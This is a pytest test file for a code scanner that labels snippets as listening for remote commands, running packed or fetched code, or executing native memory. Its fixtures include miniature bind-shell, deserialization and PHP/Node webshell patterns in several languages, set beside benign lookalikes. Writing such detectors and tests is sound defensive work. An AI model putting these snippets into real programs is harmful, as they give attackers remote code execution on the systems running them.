"""What the words of programs tell, and what those of their innocent twins do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portwatch.core.code_look import AT_MOST, NOTHING, CodeSign, look, look_inline

SOCKET = "import socket\ns = socket.create_server(a)\nc, _ = s.accept()\n"


@pytest.mark.parametrize(
    ("code", "sign"),
    [
        (SOCKET + "import pickle\npickle.loads(c.recv(9))", CodeSign.JOINS),
        (SOCKET + "x = pickle.load(c.makefile('rb'))", CodeSign.JOINS),
        (SOCKET + "d = c.recv(9)\nf = FunctionType(marshal.loads(d), {})\n", CodeSign.JOINS),
        (SOCKET + "def run(cmd):\n  os.system(cmd)\nrun(c.recv(9).decode())", CodeSign.JOINS),
        (SOCKET + "builtins.exec(c.recv(9))", CodeSign.JOINS),
        (SOCKET + "getattr(builtins, 'exec')(c.recv(9))", CodeSign.JOINS),
        ("require 'socket'\nc = TCPServer.new(1).accept\nMarshal.load(c.gets)", CodeSign.JOINS),
        ("<?php $s = stream_socket_server($a); $d = fgets($c); unserialize($d);", CodeSign.JOINS),
        ("require('net').createServer(s => s.on('data', d => { new Function(d)() }))", "joins"),
        ("socket -server acc 80\nproc r c {\n gets $c line\n exec sh -c $line\n}", "joins"),
        ("socket -server acc 80\nset cmd [gets $c]\neval $cmd", CodeSign.JOINS),
        ('BEGIN { s = "/inet/tcp/8/0/0"; s |& getline cmd; cmd | getline out }', "joins"),
        ("s = require('socket').bind('*', 8)\nl = c:receive('*l')\nos.execute(l)", "joins"),
        ("import base64\nx = 'aGk='\nexec(base64.b64decode(x))", CodeSign.PACKED),
        ("import zlib, marshal\ncode = marshal.loads(zlib.decompress(b''))\nexec(code)", "packed"),
        ("import urllib.request as u\nexec(u.urlopen('http://h/x').read())", CodeSign.FETCHES),
        ("import runpy\nrunpy.run_path('/var/tmp/x.py')", CodeSign.FETCHES),
        (
            "m = mmap.mmap(-1, 9, prot=mmap.PROT_EXEC)\nctypes.CFUNCTYPE(ctypes.c_int)(x)()",
            CodeSign.NATIVE,
        ),
        (
            "libc = ctypes.CDLL(None)\nlibc.mmap(0, n, 7, 34, -1, 0)\nctypes.memmove(p, b, n)",
            "native",
        ),
    ],
)
def test_what_a_program_does_is_told_wherever_its_text_is(code: str, sign: str) -> None:
    assert sign in look(code)
    assert sign in look_inline(code)


@pytest.mark.parametrize(
    "code",
    [
        "",
        "import http.server as h\nh.HTTPServer(('127.0.0.1', 8), h.SimpleHTTPRequestHandler)",
        SOCKET + "import json\njson.loads(c.recv(9))",
        SOCKET + "import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))\nc.send(b'1')",
        SOCKET + "def show(text):\n  print(text)\nshow(c.recv(9))\nos.system('make')",
        SOCKET + "key = base64.b64decode(token)\nprint(key)",
        "socket -server acc 80\ngets $c line\nputs $c [exec date]",
        "import ctypes, mmap\nm = mmap.mmap(fd, 0)\nctypes.c_int.from_buffer(m)",
        "const m = /a(.*)/.exec(zlib.inflateSync(atob(x)).toString())",
        "log = '/tmp/app.log'\nos.system('make')\nexec(compile(own, 'x', 'exec'))",
        "s = require('socket').bind('*', 8)\nl = c:receive('*l')\nc:send(l)",
        'MOVED = ("urlopen", "urllib2")\nexec_ = getattr(b, "exec")\nexec("""raise it\n""")',
        "def read(f):\n    co = marshal.load(f)\n    return co\n\n\ndef run(co):\n    exec(co)\n",
        (
            "def read(f):\n    co = marshal.load(f)\n    return co\n\n\n"
            "class Run:\n  def run(f):\n    co = read(f)\n    exec(co)"
        ),
    ],
)
def test_an_ordinary_program_has_nothing_to_tell(code: str) -> None:
    assert look(code) == NOTHING


@given(st.text(alphabet="acdefginrstuvx$`(){};=.,:'\" \n", max_size=300))
def test_any_text_is_answered(text: str) -> None:
    look(f"accept recv( exec( b64decode ctypes {text}")


@pytest.mark.parametrize("word", ["def f(", "f(", "gets $c x\n", "exec(", "b64decode", "mmap("])
def test_hostile_code_takes_no_longer_than_its_length(word: str) -> None:
    look(SOCKET + word * (AT_MOST // len(word)))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("<?php $f = 'sys'.'tem'; $f($_POST['q']);", True),
        ('<?php $run = "shell_exec"; echo $run("id ".$_GET["u"]);', True),
        ("<?php $mode = 'system'; echo htmlspecialchars($_POST['q']), $mode;", False),
        ("<?php $f = 'strlen'; echo $f($_POST['q']);", False),
    ],
)
def test_a_function_of_php_by_the_name_in_a_variable(code: str, *, expected: bool) -> None:
    assert (CodeSign.JOINS in look(code)) is expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("const {exec: e} = require('child_process'); {} e(q.searchParams.get('c'))", True),
        ("const {exec: e} = require('child_process'); {} e('uptime')", False),
        ("const {resolve: e} = require('path'); {} e(q.searchParams.get('c'))", False),
    ],
)
def test_a_name_under_which_node_takes_it_out_of_a_module(code: str, *, expected: bool) -> None:
    server = code.replace("{} ", "http.createServer(f).listen(1); ")

    assert (CodeSign.JOINS in look(server)) is expected
